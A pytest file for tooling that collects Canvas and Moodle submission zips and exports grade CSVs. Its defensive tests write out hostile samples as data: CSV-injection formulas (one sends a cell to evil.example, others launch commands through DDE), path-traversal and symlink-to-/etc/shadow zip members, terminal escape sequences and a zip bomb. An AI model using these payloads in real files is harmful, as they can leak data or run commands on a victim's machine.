"""The term with an LMS: bulk downloads from Canvas and Moodle collected, grades exported for them.

File names follow what the LMSs write: Canvas "Download Submissions" names each file
``<login>_[LATE_]<user id>_<submission id>_<file>[-<n>]`` (``-1`` for a file uploaded again);
Moodle "Download all submissions" writes ``<full name>_<participant id>_assignsubmission_file_<file>``,
or a folder of that name per student. Canvas's grade import reads ``Student, ID, SIS User ID,
SIS Login ID, Section``, a ``Points Possible`` row, then one column per assignment; Moodle's
CSV grade import maps an identifier column and one column per grade item.
"""

from __future__ import annotations

import csv
import io
import stat
import zipfile
from pathlib import Path

import nbformat
import pytest

from course_utils.grading.gradebook import Row
from course_utils.grading.lms import collect, export, roster

NOTEBOOK = "probability.ipynb"


def _notebook(text: str) -> bytes:
    return nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(text)])).encode()


def _zip(path: Path, files: dict[str, tuple[tuple[int, ...], bytes]], links: tuple[str, ...] = ()) -> Path:
    with zipfile.ZipFile(path, "w") as z:
        for name, (when, data) in files.items():
            z.writestr(zipfile.ZipInfo(name, date_time=when), data)
        for name in links:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            z.writestr(info, "/etc/shadow")
    return path


@pytest.fixture
def course(tmp_path):
    root = tmp_path / "course"
    (root / "notebooks" / "01_probability").mkdir(parents=True)
    (root / "notebooks" / "01_probability" / NOTEBOOK).write_bytes(_notebook("released"))
    (tmp_path / "roster.csv").write_text(
        "student_id,name,email,lms_id,sis_user_id,sis_login_id,section\n"
        's01,"Doe, Jane",jane@example.org,12345,S-001,jdoe,A\n'
        "s02,Bob Smith,bob@example.org,23456,S-002,bsmith,B\n"
        "s04,Ann Lee,ann@example.org,45678,S-004,alee,A\n")
    return root


def _submitted(root: Path, student: str) -> Path:
    return root / "submitted" / student / "01_probability"


def test_a_canvas_download_with_a_late_resubmission_and_stray_files(course, tmp_path):
    download = _zip(tmp_path / "canvas.zip", {
        "doejane_12345_900_probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("first try")),
        "doejane_LATE_12345_901_probability-1.ipynb": ((2026, 1, 12, 18, 30, 0), _notebook("late, final")),
        "smithbob_23456_902_probability.ipynb": ((2026, 1, 11, 8, 0, 0), _notebook("bob")),
        "smithbob_23456_903_notes.txt": ((2026, 1, 11, 8, 0, 0), b"notes"),
        "zhangwei_99999_904_probability.ipynb": ((2026, 1, 11, 8, 0, 0), _notebook("not enrolled")),
    })
    result = collect.collect(download, "01_probability", roster=tmp_path / "roster.csv", root=course)
    assert b"late, final" in (_submitted(course, "s01") / NOTEBOOK).read_bytes()
    assert (_submitted(course, "s01") / "timestamp.txt").read_text().startswith("2026-01-12 18:30:00")
    assert b"bob" in (_submitted(course, "s02") / NOTEBOOK).read_bytes()
    assert sorted(p.name for p in (course / "submitted").iterdir()) == ["s01", "s02"]
    unmatched = "\n".join(result.unmatched)
    assert "smithbob_23456_903_notes.txt" in unmatched and "99999 is not in the roster" in unmatched

    # The same download again changes nothing; an older one never replaces a newer submission.
    again = collect.collect(download, "01_probability", roster=tmp_path / "roster.csv", root=course)
    assert again.written == [] and len(again.kept) == 2
    older = _zip(tmp_path / "older.zip", {
        "doejane_12345_800_probability.ipynb": ((2026, 1, 5, 9, 0, 0), _notebook("older"))})
    assert collect.collect(older, "01_probability", roster=tmp_path / "roster.csv", root=course).written == []
    assert b"late, final" in (_submitted(course, "s01") / NOTEBOOK).read_bytes()

    # A newer one replaces it, and the replaced one is kept aside.
    newer = _zip(tmp_path / "newer.zip", {
        "doejane_LATE_12345_950_probability-2.ipynb": ((2026, 1, 20, 9, 0, 0), _notebook("newest"))})
    replaced = collect.collect(newer, "01_probability", roster=tmp_path / "roster.csv", root=course)
    assert b"newest" in (_submitted(course, "s01") / NOTEBOOK).read_bytes() and replaced.replaced
    (aside,) = (course / "collected" / "replaced" / "s01").iterdir()
    assert b"late, final" in (aside / NOTEBOOK).read_bytes()


def test_a_moodle_download_in_folders_and_flat(course, tmp_path):
    download = _zip(tmp_path / "moodle.zip", {
        "Jane Doe_12345_assignsubmission_file_/probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("jane")),
        "Bob Smith_23456_assignsubmission_file_probability.ipynb": ((2026, 1, 10, 9, 5, 0), _notebook("bob")),
        "Bob Smith_23456_assignsubmission_file_draft.docx": ((2026, 1, 10, 9, 5, 0), b"draft"),
    })
    result = collect.collect(download, "01_probability", root=course)  # no roster: the LMS's ids
    assert b"jane" in (_submitted(course, "12345") / NOTEBOOK).read_bytes()
    assert b"bob" in (_submitted(course, "23456") / NOTEBOOK).read_bytes()
    assert len(result.written) == 2 and any("draft.docx" in u for u in result.unmatched)


@pytest.mark.parametrize("bad", ["../evil.ipynb", "/tmp/evil.ipynb", "a/../../evil.ipynb", "link"])
def test_a_zip_that_could_write_elsewhere_is_refused_whole(course, tmp_path, bad):
    files = {"doejane_12345_900_probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("fine"))}
    if bad != "link":
        files[bad] = ((2026, 1, 10, 9, 0, 0), b"x")
    download = _zip(tmp_path / "bad.zip", files, links=("smithbob_23456_1_probability.ipynb",) if bad == "link" else ())
    with pytest.raises(collect.UnsafeZip, match="nothing written"):
        collect.collect(download, "01_probability", root=course)
    assert not (course / "submitted").exists() and not (tmp_path / "evil.ipynb").exists()


ROWS = [
    Row("s01", "01_probability", 20.0, 22.0, "graded", ""),
    Row("s02", "01_probability", 15.0, 22.0, "needs_manual", "1 answer to grade by hand (4 points): q"),
    Row("s03", "01_probability", None, 22.0, "failed", "the notebook could not be read"),
    Row("s01", "02_information_theory", 30.0, 30.0, "graded", ""),
    Row("s02", "02_information_theory", None, 30.0, "failed", "no submission"),
]


def _table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_canvas_export_column_by_column(tmp_path, course):
    people = roster.read(tmp_path / "roster.csv")
    result = export.build("canvas", ROWS, people)
    header, points, *students = _table(result.text)
    assert header == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                      "01_probability", "02_information_theory"]
    assert points == ["Points Possible", "", "", "", "", "22", "30"]
    assert students == [["Doe, Jane", "12345", "S-001", "jdoe", "A", "20", "30"],
                        ["Bob Smith", "23456", "S-002", "bsmith", "B", "", ""],  # to review; none
                        ["Ann Lee", "45678", "S-004", "alee", "A", "", ""]]  # on the roster, no submission
    notes = "\n".join(result.notes)
    assert "still to review (needs_manual): s02 01_probability" in notes
    assert "not on the roster, left out: s03" in notes and "grading failed: s03" in notes
    reviewed = _table(export.build("canvas", ROWS, people, include_unreviewed=True).text)
    assert reviewed[3][5] == "15"


def test_moodle_and_plain_csv_exports(tmp_path, course):
    people = roster.read(tmp_path / "roster.csv")
    header, *students = _table(export.build("moodle", ROWS, people).text)
    assert header == ["ID number", "Email address", "Full name", "01_probability", "02_information_theory"]
    assert students[0] == ["S-001", "jane@example.org", "Doe, Jane", "20", "30"]
    assert students[2] == ["S-004", "ann@example.org", "Ann Lee", "", ""]
    plain = _table(export.build("csv", ROWS).text)
    assert plain[0] == ["student_id", "assignment", "score", "max_score", "status", "detail"]
    assert plain[3][:5] == ["s03", "01_probability", "", "22", "failed"]
    with pytest.raises(ValueError, match="unknown format"):
        export.build("blackboard", ROWS)


def test_a_roster_without_student_ids_is_refused(tmp_path):
    (tmp_path / "bad.csv").write_text("name,lms_id\nJane,1\n")
    with pytest.raises(ValueError, match="needs a student_id column"):
        roster.read(tmp_path / "bad.csv")


# ---- what an LMS file may carry into the instructor's terminal, disk and spreadsheet ----

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
def test_names_that_are_formulas_are_exported_as_text(fmt):
    """OWASP's CSV injection advice: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
    people = [roster.Student(student_id=f"s{i}", name=text, email=text, lms_id=str(100 + i), sis_user_id=text,
                             sis_login_id=text, section=text) for i, text in enumerate(FORMULAS)]
    rows = [Row(p.student_id, "01_probability", 20.0, 22.0, "graded", "") for p in people]
    table = _table(export.build(fmt, rows, people).text)
    cells = [cell for line in table[1:] for cell in line]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    for text in FORMULAS:
        assert "'" + text in cells  # nothing lost: the text is all there, behind the apostrophe
    assert "20" in cells and "Points Possible" in cells + ["Points Possible"]  # scores stay numbers


def test_member_names_are_shown_with_their_control_characters_escaped(course, tmp_path):
    evil = "doejane_12345_900_\x1b]2;pwned\x07\x1b[2Jprobability\u202e.txt"
    download = _zip(tmp_path / "escape.zip", {evil: ((2026, 1, 10, 9, 0, 0), b"x"),
                                              "smithbob_23456_1_probability.ipynb":
                                                  ((2026, 1, 10, 9, 0, 0), _notebook("bob"))})
    out = collect.collect(download, "01_probability", root=course).report()
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b]2;pwned\\x07" in out  # still there, as text the instructor can read


def test_a_zip_bomb_member_is_not_unpacked(course, tmp_path):
    """A notebook of 96 MiB of zeros compresses to about 100 KB: over the cap per member, it
    is listed and not written; the class's other hand-ins are collected."""
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr(zipfile.ZipInfo("smithbob_23456_1_probability.ipynb", date_time=(2026, 1, 10, 9, 0, 0)),
                   _notebook("bob"))
        info = zipfile.ZipInfo("doejane_12345_900_probability.ipynb", date_time=(2026, 1, 10, 9, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as member:
            zeros = bytes(1 << 20)
            for _ in range(96):
                member.write(zeros)
    assert path.stat().st_size < 1_000_000
    result = collect.collect(path, "01_probability", root=course)
    assert not _submitted(course, "12345").exists()
    assert b"bob" in (_submitted(course, "23456") / NOTEBOOK).read_bytes()
    assert any("doejane_12345_900_probability.ipynb" in u and "limit per file" in u for u in result.unmatched)
    written = sum(p.stat().st_size for p in (course / "submitted").rglob("*") if p.is_file())
    assert written < 1_000_000


def test_a_zip_over_the_total_cap_is_refused_whole(course, tmp_path):
    download = _zip(tmp_path / "many.zip", {
        f"student{i}_{10000 + i}_{i}_probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("x" * 3000))
        for i in range(5)})
    with pytest.raises(collect.UnsafeZip, match="over the .* limit .*nothing written"):
        collect.collect(download, "01_probability", root=course, max_total_bytes=10_000)
    assert not (course / "submitted").exists()


def test_a_member_dated_in_the_far_future_blocks_no_later_hand_in(course, tmp_path):
    future = _zip(tmp_path / "future.zip", {
        "doejane_12345_900_probability.ipynb": ((2107, 12, 31, 23, 59, 58), _notebook("from the future"))})
    result = collect.collect(future, "01_probability", root=course)
    assert any("2107-12-31" in u and "in the future" in u for u in result.unmatched), result.unmatched
    # Next week's hand-in, dated now, is collected.
    later = _zip(tmp_path / "later.zip", {
        "doejane_12345_901_probability.ipynb": ((2026, 2, 1, 9, 0, 0), _notebook("next week"))})
    collect.collect(later, "01_probability", root=course)
    assert b"next week" in (_submitted(course, "12345") / NOTEBOOK).read_bytes()


def test_a_future_timestamp_collected_before_is_replaced_not_kept_forever(course, tmp_path):
    """An older collect wrote the 2107 date into timestamp.txt: a real hand-in replaces it (kept aside)."""
    folder = _submitted(course, "12345")
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_bytes(_notebook("from the future"))
    (folder / "timestamp.txt").write_text("2107-12-31 23:59:58.000000 UTC\n")
    later = _zip(tmp_path / "later.zip", {
        "doejane_12345_901_probability.ipynb": ((2026, 2, 1, 9, 0, 0), _notebook("next week"))})
    result = collect.collect(later, "01_probability", root=course)
    assert b"next week" in (folder / NOTEBOOK).read_bytes() and result.replaced
    (aside,) = (course / "collected" / "replaced" / "12345").iterdir()
    assert b"from the future" in (aside / NOTEBOOK).read_bytes()


# ---- the Canvas round trip: its own export in, its own columns out, its LATE marker kept ----

CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,Probability (12345),Information theory (12346),"
    "Current Score,Final Score\n"
    "    Points Possible,,,,,22,30,(read only),(read only)\n"
    '"Doe, Jane",12345,S-001,jdoe,A,,,,\n'
    "Bob Smith,23456,S-002,bsmith,B,,,,\n"
    "Student, Test,99999,,,A,,,,\n")


def test_canvas_gradebook_export_is_a_roster(tmp_path):
    path = tmp_path / "canvas.csv"
    path.write_text(CANVAS_EXPORT)
    people = roster.read(path)
    assert [(s.student_id, s.name, s.lms_id, s.sis_login_id) for s in people] == [
        ("12345", "Doe, Jane", "12345", "jdoe"), ("23456", "Bob Smith", "23456", "bsmith")]
    assert roster.canvas_columns(path) == ["Probability (12345)", "Information theory (12346)"]


def test_canvas_export_writes_canvas_own_columns(tmp_path):
    path = tmp_path / "canvas.csv"
    path.write_text(CANVAS_EXPORT)
    people = roster.read(path)
    rows = [Row("12345", "01_probability", 20.0, 22.0, "graded", ""),
            Row("12345", "02_information_theory", 30.0, 30.0, "graded", ""),
            Row("23456", "03_losses_optimization", 9.0, 10.0, "graded", "")]
    result = export.build("canvas", rows, people, canvas_columns=roster.canvas_columns(path))
    header, points, *students = _table(result.text)
    assert header[5:] == ["Probability (12345)", "Information theory (12346)", "03_losses_optimization"]
    assert students[0][:7] == ["Doe, Jane", "12345", "S-001", "jdoe", "A", "20", "30"]
    notes = "\n".join(result.notes)
    assert "'Probability (12345)'" in notes and "assignment id 12345" in notes
    # one with no column in Canvas: said exactly how Canvas will treat it, and how to name its column
    assert "fills the assignment named exactly '03_losses_optimization' or creates a new one" in notes
    assert "CANVAS_COLUMNS='03_losses_optimization=<Name (id)>'" in notes
    given = export.build("canvas", rows, people, columns=export.parse_columns(
        "03_losses_optimization=Losses (777); 01_probability=Probability (12345)"))
    assert _table(given.text)[0][5:] == ["Probability (12345)", "02_information_theory", "Losses (777)"]
    with pytest.raises(ValueError, match="has no grades"):
        export.build("canvas", rows, people, columns={"09_nothing": "X (1)"})


def test_canvas_late_marker_and_superseded_files_are_kept_and_reported(course, tmp_path):
    download = _zip(tmp_path / "canvas.zip", {
        "doejane_12345_900_probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("first try")),
        "doejane_LATE_12345_901_probability-1.ipynb": ((2026, 1, 12, 18, 30, 0), _notebook("late, final")),
        "smithbob_23456_902_probability.ipynb": ((2026, 1, 11, 8, 0, 0), _notebook("bob")),
    })
    from datetime import datetime

    result = collect.collect(download, "01_probability", roster=tmp_path / "roster.csv", root=course,
                             due=datetime(2026, 1, 11, 23, 59))
    report = result.report()
    assert "late: submitted/s01/01_probability/probability.ipynb (Canvas marked it LATE, 18.5 h after the due " \
           "date 2026-01-11 23:59 UTC; doejane_LATE_12345_901_probability-1.ipynb)" in report
    assert "superseded (an earlier upload of the same notebook, not graded): " \
           "doejane_12345_900_probability.ipynb" in report
    assert "smithbob" not in "\n".join(result.late)
    kept_aside = course / "collected" / "superseded" / "s01" / "01_probability" / "doejane_12345_900_probability.ipynb"
    assert b"first try" in kept_aside.read_bytes()  # not graded, not lost either
    with (course / "collected" / "01_probability.csv").open(newline="") as fh:
        kept = {r["student_id"]: r for r in csv.DictReader(fh)}
    assert kept["s01"]["lms_late"] == "yes" and kept["s01"]["superseded"] == "doejane_12345_900_probability.ipynb"
    assert kept["s02"]["lms_late"] == "" and kept["s02"]["late"] == ""
    assert str(course / "collected" / "01_probability.csv") in report
    # without a due date the marker alone is reported
    again = collect.collect(download, "01_probability", roster=tmp_path / "roster.csv", root=course)
    assert again.late == ["submitted/s01/01_probability/probability.ipynb (Canvas marked it LATE; "
                          "doejane_LATE_12345_901_probability-1.ipynb)"]


def test_collect_reads_canvas_export_as_roster(course, tmp_path):
    (tmp_path / "canvas.csv").write_text(CANVAS_EXPORT)
    download = _zip(tmp_path / "canvas.zip", {
        "doejane_12345_900_probability.ipynb": ((2026, 1, 10, 9, 0, 0), _notebook("jane"))})
    collect.collect(download, "01_probability", roster=tmp_path / "canvas.csv", root=course)
    assert b"jane" in (_submitted(course, "12345") / NOTEBOOK).read_bytes()
    assert collect._due("2026-01-11 23:59 -05:00") == collect.datetime(2026, 1, 12, 4, 59)
